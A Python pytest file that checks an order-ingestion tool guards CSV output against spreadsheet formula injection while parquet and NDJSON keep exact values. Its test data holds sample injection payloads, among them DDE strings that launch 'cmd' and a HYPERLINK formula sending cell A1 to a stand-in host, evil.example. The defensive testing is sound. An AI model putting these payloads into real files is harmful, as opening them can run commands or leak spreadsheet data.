"""No cell of a CSV ordermill writes runs as a formula when opened in a spreadsheet; NDJSON
and parquet keep the exact values; a value the source had disarmed is data, not re-armed.

Real ingests of files in real channel layouts (the Shopify and Tmall samples' headers), read
back as text."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import polars as pl
import pytest
from conftest import MAPPINGS, SAMPLES

from ingest.api import ingest
from ingest.mapping.loader import load_mapping
from ingest.schema import field_kind
from ingest.writers.formats import guard_formulas, write_csv, write_rejects

# What a spreadsheet takes for the start of a formula (and what the guard must catch).
FORMULA = re.compile(r"^[=+\-@\t\r\n\x00＝＋－＠]")
NUMBER = re.compile(r"^-\d+(?:\.\d+)?$")  # a typed negative number: Excel reads a number
# One payload per class; the TAB, CR and LF ones lead a formula (a trimmed TAB must not arm it).
PAYLOADS = {
    "equals": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "fullwidth": "＝1+1",
    "fullwidth-plus": "＋1+1",
    "disarmed": "'=1+1",
    "dde": "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
}
# What the standard value must be: what the source meant (trimmed, the ``'`` it was
# disarmed with gone), not a formula of ours and not re-armed on output.
MEANT = {name: text.strip().removeprefix("'") for name, text in PAYLOADS.items()}

SHOPIFY = SAMPLES / "shopify" / "orders_export_1.csv"
TMALL = SAMPLES.parent / "tests" / "fixtures" / "tmall-combined.csv"
# The Shopify column each plainly mapped text field reads (ship_address: the first of two).
SHOPIFY_TEXT = {
    "order_id": "Name", "buyer_name": "Billing Name", "ship_name": "Shipping Name",
    "ship_province": "Shipping Province", "ship_city": "Shipping City",
    "ship_address": "Shipping Address1", "ship_postcode": "Shipping Zip",
    "sku": "Lineitem sku", "product_name": "Lineitem name", "buyer_message": "Notes",
    "promotion_id": "Discount Code",
}


def _cells(path: Path) -> list[list[str]]:
    """Every cell of a written CSV as text, the header included (a BOM is not a cell's)."""
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(path: Path) -> None:
    for number, row in enumerate(_cells(path), start=1):
        for cell in row:
            assert not FORMULA.match(cell) or NUMBER.match(cell), \
                f"{path.name} line {number}: {cell!r}"


def _shopify_file(target: Path) -> Path:
    """One order per (field, payload), plus the same again with an unreadable quantity (so
    the raw payloads reach rejects.csv), and phones in their everyday forms."""
    rows = list(csv.reader(io.StringIO(SHOPIFY.read_text(encoding="utf-8"), newline="")))
    header, base = rows[0], dict(zip(rows[0], rows[1], strict=True))
    base["Shipping Address2"] = ""  # ship_address joins it: the payload alone, first
    # Each order is the sample's first line alone: its stated total is what that line adds
    # up to (37.00 − order discount 3.20 + shipping 5.00 + tax 4.31), or it is rejected.
    base["Total"] = "43.11"
    out = [header]
    number = 0

    def add(changes: dict[str, str], bad: bool = False) -> None:
        nonlocal number
        number += 1
        row = {**base, "Name": f"#{9000 + number}", **changes}
        if bad:
            row["Lineitem quantity"] = "many"
        out.append([row[name] for name in header])

    for bad in (False, True):
        for field, column in SHOPIFY_TEXT.items():
            for payload in PAYLOADS.values():
                # Order numbers must differ: the payload leads, a number follows.
                value = payload + str(number) if field == "order_id" else payload
                add({column: value}, bad)
        add({"Phone": "+31 6 12345678", "Shipping Phone": "+31 6 12345678",
             "Shipping Country": "NL"}, bad)
        add({"Phone": "+8613812345678", "Shipping Phone": "+8613812345678",
             "Shipping Country": "CN"}, bad)
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(out)
    return target


def test_every_plain_text_field_of_the_shopify_mapping_is_covered() -> None:
    mapping = load_mapping(MAPPINGS / "shopify.toml")
    text = {name for name, rule in mapping.fields.items()
            if field_kind(name) == "text" and rule.columns and not rule.cases}
    assert text == set(SHOPIFY_TEXT)


@pytest.fixture(scope="module")
def shopify_batch(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The payload file ingested once per output format: format -> batch folder."""
    root = tmp_path_factory.mktemp("guard")
    source = _shopify_file(root / "in" / "orders_export_payloads.csv")
    batches = {}
    for output in ("csv", "parquet", "ndjson"):
        report = ingest([source], root / output / "out", state_dir=root / output / "state",
                        output_format=output)
        assert report.batch_dir is not None
        batches[output] = report.batch_dir
    return batches


def test_no_cell_of_orders_or_rejects_csv_starts_a_formula(
        shopify_batch: dict[str, Path]) -> None:
    for output in ("csv", "parquet", "ndjson"):  # rejects.csv is CSV whatever the format
        _assert_no_formula(shopify_batch[output] / "rejects.csv")
    _assert_no_formula(shopify_batch["csv"] / "orders.csv")


def test_each_payload_is_guarded_data_in_orders_csv(shopify_batch: dict[str, Path]) -> None:
    orders = pl.read_csv(shopify_batch["csv"] / "orders.csv", infer_schema=False)
    assert orders.height == len(SHOPIFY_TEXT) * len(PAYLOADS) + 2
    for field in SHOPIFY_TEXT:
        values = set(orders[field].drop_nulls())
        for name, meant in MEANT.items():
            if field == "order_id":  # (the payload and a number)
                assert any(v.startswith("'" + meant) for v in values), (field, name)
            else:
                # Each value exactly as meant, with one ' in front: Excel shows it, runs none.
                assert "'" + meant in values, (field, name, values)


def test_rejects_csv_shows_the_source_text_guarded(shopify_batch: dict[str, Path]) -> None:
    rejects = pl.read_csv(shopify_batch["csv"] / "rejects.csv", infer_schema=False)
    assert rejects.height == len(SHOPIFY_TEXT) * len(PAYLOADS) + 2
    notes = set(rejects["Notes"].drop_nulls())
    for name, payload in PAYLOADS.items():
        # The raw value as the source had it (a TAB or a line break first too), guarded;
        # ``'=1+1`` is written ``''=1+1``: one ' more than the data, as every guarded cell.
        assert "'" + payload in notes, name
    # An everyday phone: Excel would show #NAME? for =+31 6 12345678.
    assert "'+31 6 12345678" in set(rejects["Phone"])
    assert set(rejects["codes"]) == {"invalid-quantity"}


def test_phones_and_ids_keep_plus_and_leading_zeros(shopify_batch: dict[str, Path]) -> None:
    orders = pl.read_csv(shopify_batch["csv"] / "orders.csv", infer_schema=False)
    phones = set(orders["ship_phone"])
    assert {"'+31612345678", "'+8613812345678"} <= phones
    assert "02108" in set(orders["ship_postcode"])  # the sample's '02108: no guard needed
    # Money stays a plain number; a negative one would be too (typed, never guarded).
    assert orders["unit_price"].str.contains(r"^\d+\.\d{2}$").all()


@pytest.mark.parametrize("output", ["parquet", "ndjson"])
def test_parquet_and_ndjson_keep_the_exact_values(shopify_batch: dict[str, Path],
                                                  output: str) -> None:
    path = shopify_batch[output] / f"orders.{output}"
    if output == "parquet":
        orders = pl.read_parquet(path)
    else:
        orders = pl.DataFrame([json.loads(line) for line in
                               path.read_text(encoding="utf-8").splitlines()])
    for field in SHOPIFY_TEXT:
        values = set(orders[field].drop_nulls())
        for name, meant in MEANT.items():
            if field != "order_id":
                assert meant in values, (output, field, name)
            assert not any(v.startswith("'") for v in values), (output, field)
    assert {"+31612345678", "+8613812345678"} <= set(orders["ship_phone"])


def _tmall_file(target: Path, rows: list[tuple[str, str]]) -> Path:
    """The Tmall sample's title line, header and first row, once per (order number cell, 宝贝
    标题) pair, written raw (the order number cell as it stands in the file), in GB18030."""
    lines = TMALL.read_bytes().decode("gb18030").split("\r\n")
    title, header, first = lines[0], lines[1], lines[2]
    guard = '"=""3712345678901234567"""'
    assert first.startswith(guard)
    rest = first[len(guard):].replace("山河 明前龙井 250g 礼盒装", "{name}", 1)
    body = [cell + rest.replace("{name}", name) for cell, name in rows]
    target.write_bytes("\r\n".join([title, header, *body, ""]).encode("gb18030"))
    return target


def test_tmall_guards_damaged_or_disarmed_values(tmp_path: Path) -> None:
    source = _tmall_file(tmp_path / "ExportOrderList.csv", [
        ('"=""4712345678901234501"""', "plain"),  # the guard as Tmall writes it
        ('"="4712345678901234502"""', "damaged guard"),  # quotes not doubled
        ('"="4712345678901234503"', "damaged guard with one quote"),
        ('4712345678901234504', "'=1+1"),  # a title the source disarmed
        ('4712345678901234505', '"=HYPERLINK(""http://evil.example"",""x"")"'),
    ])
    report = ingest([source], tmp_path / "out", state_dir=tmp_path / "state",
                    output_format="parquet")
    assert report.batch_dir is not None
    orders = pl.read_parquet(report.batch_dir / "orders.parquet")
    assert orders["order_id"].to_list() == [f"471234567890123450{i}" for i in range(1, 6)]
    names = orders["product_name"].to_list()
    assert names[3:] == ["=1+1", '=HYPERLINK("http://evil.example","x")']

    report = ingest([source], tmp_path / "out-csv", state_dir=tmp_path / "state-csv")
    assert report.batch_dir is not None
    _assert_no_formula(report.batch_dir / "orders.csv")
    written = pl.read_csv(report.batch_dir / "orders.csv", infer_schema=False)
    assert written["order_id"].to_list() == orders["order_id"].to_list()
    assert written["product_name"].to_list()[3:] == [
        "'=1+1", '\'=HYPERLINK("http://evil.example","x")']


def test_the_writers_guard_every_class_and_only_text(tmp_path: Path) -> None:
    """The writer on its own: every class, the apostrophe rule, nulls, header cells, typed
    columns left as numbers."""
    values = ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "\x00=1", "＝1", "＋1", "－1",
              "＠a", "'=1", "''+1", "'s-Hertogenbosch", "plain", None, "a=b", "1-2"]
    frame = pl.DataFrame({
        "text": values,
        "=cmd|' /C calc'!A0": ["x"] * len(values),  # a source's own header cell
        "amount": pl.Series(["-12.50"] * len(values)).str.to_decimal(scale=2),
        "count": [-3] * len(values),
    })
    write_rejects(frame.lazy(), tmp_path / "rejects.csv")
    write_csv(frame.lazy(), tmp_path / "orders.csv")
    for name in ("rejects.csv", "orders.csv"):
        _assert_no_formula(tmp_path / name)
        back = pl.read_csv(tmp_path / name, infer_schema=False)
        assert back.columns == ["text", "'=cmd|' /C calc'!A0", "amount", "count"]
        assert back["text"].to_list() == [
            "'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "'\n=1", "'\x00=1", "'＝1", "'＋1",
            "'－1", "'＠a", "''=1", "'''+1", "'s-Hertogenbosch", "plain", None, "a=b", "1-2"]
        assert set(back["amount"]) == {"-12.50"} and set(back["count"]) == {"-3"}
    # Reading a cell back: one ' off where the rest is a formula start (after any 's).
    guarded = guard_formulas(frame.lazy()).collect()["text"]
    undone = guarded.str.replace(r"^'('*[=+\-@\t\r\n\x00＝＋－＠])", "$1")
    assert undone.to_list() == values
